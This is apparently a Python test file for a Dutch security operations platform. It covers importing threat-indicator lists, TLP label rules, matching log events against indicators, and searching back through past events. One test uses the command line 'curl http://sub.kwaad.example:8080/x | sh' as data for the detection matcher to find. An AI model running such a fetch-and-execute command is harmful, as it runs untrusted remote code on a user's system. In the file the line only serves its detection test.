"""Lists of indicators: read, taken over whole, watching, told only as far as their label allows, looked back with."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from brandwacht.engines.detection import Event
from brandwacht.engines.detection.sightings import IndicatorHolder, IndicatorWatch
from brandwacht.engines.intel import TLP
from brandwacht.network.domains import GrantKind
from brandwacht.network.errors import Denied, NotFound, Refused
from brandwacht.network.models import AuditEntry, Grant, Organisation
from brandwacht.network.roles import Role
from brandwacht.network.tenancy import every_owner
from brandwacht.soc import queries, services
from brandwacht.soc.models import (
    Alert,
    ContentImport,
    ImportState,
    IndicatorList,
    LookBack,
    LookBackResult,
    LookState,
    MatchedEvent,
    SigmaRule,
)
from brandwacht.soc.services import ListFacts, indicator_files, indicator_sets, lookback
from brandwacht.soc.services.rule_text import read_event
from tests.soc.conftest import line
from tests.world import NOW, acting, acting_system, actor, mandate, organisation, person

BAD = "203.0.113.9"
FACTS = ListFacts("Verse lijst", "Test", "TLP:GREEN", 85, NOW + timedelta(days=30))


def facts(**changes: Any) -> ListFacts:
    return ListFacts(**{name: changes.get(name, getattr(FACTS, name)) for name in FACTS.__slots__})


@pytest.fixture(autouse=True)
def data(settings: Any, tmp_path: Path) -> Path:
    settings.DATA = tmp_path
    indicator_sets.load.cache_clear()
    return tmp_path


@pytest.fixture
def listed(soc: Organisation, tmp_path: Path) -> Callable[..., IndicatorList]:
    """A list of the SOC with this text."""

    def listing(text: str = BAD, now: datetime = NOW, **changes: Any) -> IndicatorList:
        path = tmp_path / "lijst.txt"
        path.write_text(text, encoding="utf-8")
        mode = changes.pop("mode", "vervangen")
        with acting_system(soc, now) as me:
            _read, row = services.import_indicators(me, path, facts(**changes), mode=mode)
        assert row is not None
        return row

    return listing


class TestFiles:
    def read(self, tmp_path: Path, text: str) -> indicator_files.Content:
        path = tmp_path / "x"
        path.write_text(text, encoding="utf-8")
        return indicator_files.read_indicator_file(path, lambda done, total: None)

    def test_plain_text_may_be_defanged(self, tmp_path: Path) -> None:
        read = self.read(tmp_path, "# kop\nhxxps://kwaad[.]example/x\n203[.]0[.]113[.]9\n10.0.0.1\n203.0.113.9\n")
        assert sorted(item.value for item in read.items.values()) == [BAD, "https://kwaad.example/x"]
        assert (read.doubles, read.refused_count, read.refused[0][0]) == (1, 1, 4)

    def test_csv_with_a_header(self, tmp_path: Path) -> None:
        read = self.read(
            tmp_path,
            "Soort;Waarde;Geldig tot;Zekerheid\ndomein;kwaad[.]example;2026-12-31;90\nip;203.0.113.9;onzin;\n"
            "ip;203.0.113.8;;101\nip;;;\n",
        )
        (item,) = read.items.values()
        assert (item.value, item.confidence) == ("kwaad.example", 90)
        assert item.valid_until is not None
        assert [number for number, _reason in read.refused] == [3, 4, 5]

    def test_a_bundle_brings_its_own_label(self, tmp_path: Path) -> None:
        thing = {
            "type": "indicator",
            "pattern": f"[ipv4-addr:value = '{BAD}']",
            "object_marking_refs": [TLP.RED.marking_id],
        }
        assert self.read(tmp_path, json.dumps({"objects": [thing]})).tlp is TLP.RED

    @pytest.mark.parametrize("text", ["", "# niets\n", "{", "{}", "\x00", "10.0.0.1\n"])
    def test_nothing_usable_is_refused(self, tmp_path: Path, text: str) -> None:
        with pytest.raises(Refused):
            self.read(tmp_path, text)

    @given(st.binary(max_size=300))
    def test_any_file_gets_an_answer(self, content: bytes) -> None:
        import tempfile

        with tempfile.NamedTemporaryFile() as file:
            Path(file.name).write_bytes(content)
            try:
                assert indicator_files.read_indicator_file(Path(file.name), lambda done, total: None).items
            except Refused as error:
                assert error.message


@pytest.mark.parametrize(
    ("field", "value", "known"),
    [
        ("DestinationIp", "203.0.113.9", BAD),
        ("DestinationIp", "203.0.113.9", "203.0.113.0/24"),
        ("CommandLine", "curl http://sub.kwaad.example:8080/x | sh", "kwaad.example"),
        ("Hashes", "SHA1=00,SHA256=" + "AB" * 32, "ab" * 32),
        ("DestinationIp", "2001:db8:0::5", "2001:db8::5"),
        ("DestinationIp", "203.0.113.90", None),
        ("DestinationHostname", "nietkwaad.example", None),
        ("DestinationHostname", "kwaad.example.nl", None),
    ],
)
def test_where_a_value_may_stand(tmp_path: Path, field: str, value: str, known: str | None) -> None:
    values = [("ipv4", BAD), ("domain", "kwaad.example"), ("sha256", "ab" * 32), ("ipv6", "2001:db8::5")]
    if known and "/" in known:
        values = [("ipv4", known)]
    path = indicator_sets.path_of("lijst", 1)
    indicator_sets.write_items(path, [indicator_sets.Item(*each) for each in values])
    watch = IndicatorWatch(IndicatorHolder(indicator_sets.load("lijst", 1)))
    hits = watch.match([read_event(line("curl.exe", **{field: value}))]).get(0, [])
    assert [hit.indicator.value for hit in hits] == ([known] if known else [])
    assert indicator_sets.set_of(path).exists()
    assert all(hit.field == field for hit in hits)


@pytest.mark.django_db
class TestLists:
    def test_offered_shown_and_taken_over(self, soc: Organisation) -> None:
        with acting_system(soc) as me:
            row = services.offer_list(me, "l.txt", [f"{BAD}\nkwaad.example\n10.0.0.1".encode()], FACTS)
            services.read_offered_content("VR-SOC", str(row.public_id), lambda: NOW)
            row.refresh_from_db()
            assert row.state == ImportState.READY
            assert (row.outcome["total"], row.outcome["refused_count"]) == (2, 1)
            assert not IndicatorList.objects.exists()
            made = services.apply_list(me, row.public_id)
            assert (made.version, made.counts, made.works(NOW)) == (1, {"ipv4": 1, "domain": 1}, True)
            again = services.offer_list(me, "l.txt", [b"203.0.113.10"], FACTS, renews=made.public_id, mode="aanvullen")
            services.read_offered_content("VR-SOC", str(again.public_id), lambda: NOW)
            made = services.apply_list(me, again.public_id)
            assert (made.version, made.total) == (2, 3)

    def test_two_renewals_at_once(self, soc: Organisation, listed: Callable[..., IndicatorList]) -> None:
        row = listed()
        with acting_system(soc) as me:
            offers = [
                services.offer_list(me, "l.txt", [text], FACTS, renews=row.public_id)
                for text in (b"1.1.1.1", b"1.1.1.2")
            ]
            for offer in offers:
                services.read_offered_content("VR-SOC", str(offer.public_id), lambda: NOW)
            services.apply_list(me, offers[0].public_id)
            with pytest.raises(Refused, match="door een ander"):
                services.apply_list(me, offers[1].public_id)

    def test_a_label_does_not_get_wider(
        self, soc: Organisation, listed: Callable[..., IndicatorList], tmp_path: Path
    ) -> None:
        row = listed(tlp="TLP:AMBER")
        thing = {
            "type": "indicator",
            "pattern": f"[ipv4-addr:value = '{BAD}']",
            "object_marking_refs": [TLP.RED.marking_id],
        }
        path = tmp_path / "bundel.json"
        path.write_text(json.dumps({"objects": [thing]}))
        with acting_system(soc) as me:
            with pytest.raises(Refused, match="ruimer label"):
                services.offer_list(me, "l.txt", [b"1.1.1.1"], FACTS, renews=row.public_id)
            with pytest.raises(Refused, match="TLP:RED"):
                services.import_indicators(me, path, facts(name="Andere"))

    @pytest.mark.parametrize(
        "changes",
        [
            {"name": " "},
            {"origin": ""},
            {"valid_until": NOW},
            {"valid_until": NOW + timedelta(days=9999)},
            {"confidence": 101},
        ],
    )
    def test_what_is_asked_of_a_list(self, soc: Organisation, changes: dict[str, Any]) -> None:
        with acting_system(soc) as me, pytest.raises(Refused) as bad:
            services.offer_list(me, "l.txt", [b"1.1.1.1"], facts(**changes))
        assert bad.value.field in changes

    def test_an_ended_list_is_gone(
        self, region: Organisation, soc: Organisation, listed: Callable[..., IndicatorList], data: Path
    ) -> None:
        row = listed()
        with acting_system(region) as me:
            stamp = services.rulebook_stamp(me)
            assert services.rulebook_for(me).lists
        with acting_system(soc) as me:
            services.end_list(me, row.public_id)
            with pytest.raises(Refused):
                services.end_list(me, row.public_id)
        assert not list((data / "indicators").iterdir())
        with acting_system(region) as me:
            assert services.rulebook_stamp(me) != stamp
            assert not services.rulebook_for(me).lists

    def test_who_may(self, region: Organisation, soc: Organisation, listed: Callable[..., IndicatorList]) -> None:
        row = listed()
        with acting(actor(person(region, Role.CISO), region)) as me:
            assert not queries.indicator_lists(me).exists()
            for attempt in (services.end_list, services.search_list):
                with pytest.raises(NotFound):
                    attempt(me, row.public_id)
        with acting(actor(person(soc, Role.BOARD), soc)) as me, pytest.raises(Denied):
            services.offer_list(me, "l.txt", [b"1.1.1.1"], FACTS)


@pytest.mark.django_db
class TestWatching:
    def test_a_hit_is_an_alert(
        self, region: Organisation, listed: Callable[..., IndicatorList], read: Callable[..., Any]
    ) -> None:
        row = listed()
        read(region, line("net.exe", DestinationIp=BAD), line("net.exe", DestinationIp="203.0.113.1"))
        with every_owner():
            event = MatchedEvent.objects.get()
        (match,) = event.matches
        assert match["rule_id"] == f"kenmerk:{row.public_id}"
        assert match["matched"] == {"DestinationIp": BAD}
        assert match["level"] == "high"

    @pytest.mark.parametrize("label", ["TLP:AMBER", "TLP:AMBER+STRICT"])
    def test_a_narrow_label_tells_that_it_is_and_not_what(
        self, region: Organisation, listed: Callable[..., IndicatorList], read: Callable[..., Any], label: str
    ) -> None:
        listed(tlp=label, name="GEHEIMELIJST")
        read(region, line("net.exe", DestinationIp=BAD))
        with every_owner():
            (match,) = MatchedEvent.objects.get().matches
        assert match["matched"] == {}
        assert BAD not in json.dumps(match)
        assert "GEHEIMELIJST" not in json.dumps(match)

    def test_red_is_for_the_owner_only(
        self, region: Organisation, soc: Organisation, listed: Callable[..., IndicatorList], read: Callable[..., Any]
    ) -> None:
        listed(tlp="TLP:RED")
        read(region, line("net.exe", DestinationIp=BAD))
        with every_owner():
            assert not MatchedEvent.objects.exists()
        read(soc, line("net.exe", DestinationIp=BAD))
        with every_owner():
            assert MatchedEvent.objects.count() == 1

    def test_what_is_over_is_silent(
        self, region: Organisation, listed: Callable[..., IndicatorList], read: Callable[..., Any]
    ) -> None:
        listed("waarde;geldig tot\n203.0.113.9;2026-01-01\n203.0.113.8;\n")
        read(region, line("net.exe", DestinationIp=BAD))
        read(region, line("net.exe", DestinationIp="203.0.113.8"), now=NOW + timedelta(days=31))
        with every_owner():
            assert not MatchedEvent.objects.exists()
        read(region, line("net.exe", DestinationIp="203.0.113.8", x="1"))
        with every_owner():
            assert MatchedEvent.objects.count() == 1


@dataclass(frozen=True)
class Row:
    owner_code: str
    source_key: str
    time: datetime


class Stand:
    """A small store in memory."""

    def __init__(self) -> None:
        self.events: list[tuple[Row, Event]] = []
        self.asked: list[tuple[list[str], datetime, datetime]] = []
        self.on_scan: Callable[[], None] = lambda: None

    def put(self, code: str, at: datetime, image: str = "net.exe", host: str = "DC01", **fields: Any) -> None:
        event = read_event(line(image, host, at, **fields))
        self.events.append((Row(code, "wef", at), event))

    def scan(
        self,
        owner_codes: Iterable[str],
        since: datetime,
        until: datetime,
        *,
        kinds: Any = None,
        source_keys: Any = None,
    ) -> Iterator[tuple[Row, Event]]:
        codes = list(owner_codes)
        self.asked.append((codes, since, until))
        self.on_scan()
        for row, event in sorted(self.events, key=lambda pair: pair[0].time):
            if row.owner_code in codes and since <= row.time < until:
                yield row, event


@pytest.fixture
def store(monkeypatch: pytest.MonkeyPatch) -> Stand:
    stand = Stand()
    monkeypatch.setattr(lookback, "event_scan", lambda: stand.scan)
    return stand


def run(row: LookBack, now: datetime = NOW) -> LookBack:
    services.run_look_back("VR-SOC", str(row.public_id), lambda: now)
    with every_owner():
        row.refresh_from_db()
    return row


@pytest.mark.django_db
class TestLookingBack:
    def test_what_a_rule_would_have_seen(self, region: Organisation, soc: Organisation, store: Stand) -> None:
        for days in (1, 1, 3, 29, 40):
            store.put("VR17", NOW - timedelta(days=days), "lsass.exe")
        store.put("VR-SOC", NOW - timedelta(days=2), "lsass.exe", "SOC1")
        store.put("VR15", NOW - timedelta(days=2), "lsass.exe", "ELDERS")
        with every_owner():
            rule = SigmaRule.objects.get(title="Geheugen gelezen")
        with acting(actor(person(soc, Role.SOC_ANALYST), soc)) as me:
            row = services.try_rule(me, rule.public_id)
            with pytest.raises(Refused, match="al gezocht"):
                services.try_rule(me, rule.public_id)
            assert run(row).state == LookState.DONE
            results = queries.look_back_results(me, row)
        assert {r.organisation.code: (r.matches, r.hosts) for r in results} == {
            "VR17": (4, {"DC01": 4}),
            "VR-SOC": (1, {"SOC1": 1}),
        }
        assert (row.step, row.events) == (row.steps, 5)
        assert 'Image eindigt op "\\lsass.exe"' in results[0].examples[0]["because"]
        with every_owner():
            assert not Alert.objects.exists(), "trying a rule makes no alerts"
            assert AuditEntry.objects.filter(organisation=region, action="soc.look-back").exists()

    def test_a_fresh_list_finds_what_was_and_files_it_in_its_own_time(
        self, region: Organisation, soc: Organisation, store: Stand, listed: Callable[..., IndicatorList]
    ) -> None:
        then = NOW - timedelta(days=12)
        store.put("VR17", then, DestinationIp=BAD)
        store.put("VR17", then + timedelta(minutes=5), DestinationIp=BAD)
        store.put("VR17", NOW - timedelta(days=2), DestinationIp="203.0.113.1")
        watched = listed()
        with acting(actor(person(soc, Role.SOC_ANALYST), soc)) as me:
            row = run(services.search_list(me, watched.public_id))
        with every_owner():
            alert = Alert.objects.get()
            result = LookBackResult.objects.get(look_back=row.public_id, organisation=region)
            events = list(MatchedEvent.objects.order_by("time"))
        assert (alert.first_seen, alert.event_count, alert.organisation) == (then, 2, region)
        assert (result.matches, result.filed) == (2, 2)
        assert [event.number for event in events] == [1, 2]
        assert run(row).state == LookState.DONE, "a second time does nothing"
        with every_owner():
            assert MatchedEvent.objects.count() == 2

    def test_a_mandate_to_see_gives_no_alerts(
        self, soc: Organisation, store: Stand, listed: Callable[..., IndicatorList]
    ) -> None:
        other = organisation("VR15")
        mandate(other, soc, GrantKind.SOC_MANDATE)
        store.put("VR15", NOW - timedelta(days=1), DestinationIp=BAD)
        watched = listed()
        with acting(actor(person(soc, Role.SOC_ANALYST), soc)) as me:
            row = run(services.search_list(me, watched.public_id, codes=["VR15"]))
            (result,) = queries.look_back_results(me, row)
            assert (result.matches, result.filed) == (1, 0)
            with pytest.raises(Refused, match="minstens één"):
                services.search_list(me, watched.public_id, codes=["VR01"])

    def test_killed_halfway_it_goes_on_and_counts_nothing_twice(
        self, region: Organisation, soc: Organisation, store: Stand, listed: Callable[..., IndicatorList]
    ) -> None:
        for days in range(1, 6):
            store.put("VR17", NOW - timedelta(days=days), DestinationIp=BAD)
        watched = listed()
        with acting(actor(person(soc, Role.SOC_ANALYST), soc)) as me:
            row = services.search_list(me, watched.public_id, days=7, codes=["VR17"])

        def die() -> None:
            if len(store.asked) == 4:
                raise KeyboardInterrupt

        store.on_scan = die
        with pytest.raises(KeyboardInterrupt):
            run(row)
        store.on_scan = lambda: None
        assert services.run_look_back("VR-SOC", str(row.public_id), lambda: NOW) == "niet nodig", "it may still live"
        later = NOW + timedelta(minutes=21)
        assert "opnieuw" in lookback.look_again(later)
        assert run(row, later).state == LookState.DONE
        with every_owner():
            result = LookBackResult.objects.get(organisation=region)
            assert (result.matches, result.filed, MatchedEvent.objects.count()) == (5, 5, 5)

    def test_stopped_it_keeps_what_it_found(
        self, region: Organisation, soc: Organisation, store: Stand, listed: Callable[..., IndicatorList]
    ) -> None:
        for days in range(1, 6):
            store.put("VR17", NOW - timedelta(days=days), DestinationIp=BAD)
        watched = listed()
        with acting(actor(person(soc, Role.SOC_ANALYST), soc)) as me:
            row = services.search_list(me, watched.public_id, days=7, codes=["VR17"])
            asker = me

            def stop() -> None:
                if len(store.asked) == 3:
                    services.stop_look_back(asker, row.public_id)

            store.on_scan = stop
            assert run(row).state == LookState.STOPPED
            assert (row.step, row.events) == (2, 1)

    def test_a_mandate_that_ended_meanwhile(
        self, region: Organisation, soc: Organisation, store: Stand, listed: Callable[..., IndicatorList]
    ) -> None:
        store.put("VR17", NOW - timedelta(days=1), DestinationIp=BAD)
        watched = listed()
        with acting(actor(person(soc, Role.SOC_ANALYST), soc)) as me:
            row = services.search_list(me, watched.public_id, codes=["VR17"], days=7)
        with every_owner():
            Grant.objects.update(ended_at=NOW)
        assert run(row).reason.endswith("VR17.")
        assert store.asked == []
        with acting(actor(person(soc, Role.SOC_ANALYST), soc)) as me:
            assert queries.look_back_results(me, row) == []

    def test_without_a_store(self, soc: Organisation, monkeypatch: pytest.MonkeyPatch, listed: Any) -> None:
        watched = listed()
        monkeypatch.setattr(lookback, "event_scan", lambda: None)
        with acting_system(soc) as me, pytest.raises(Refused, match="nog geen gebeurtenissen"):
            services.search_list(me, watched.public_id)


@pytest.mark.django_db
def test_an_offer_for_nothing_leaves_nothing(soc: Organisation, data: Path) -> None:
    with acting_system(soc) as me, pytest.raises(Refused, match="leeg"):
        services.offer_list(me, "l.txt", [b""], FACTS)
    assert list((data / "content-imports").iterdir()) == []
    with every_owner():
        assert not ContentImport.objects.exists()
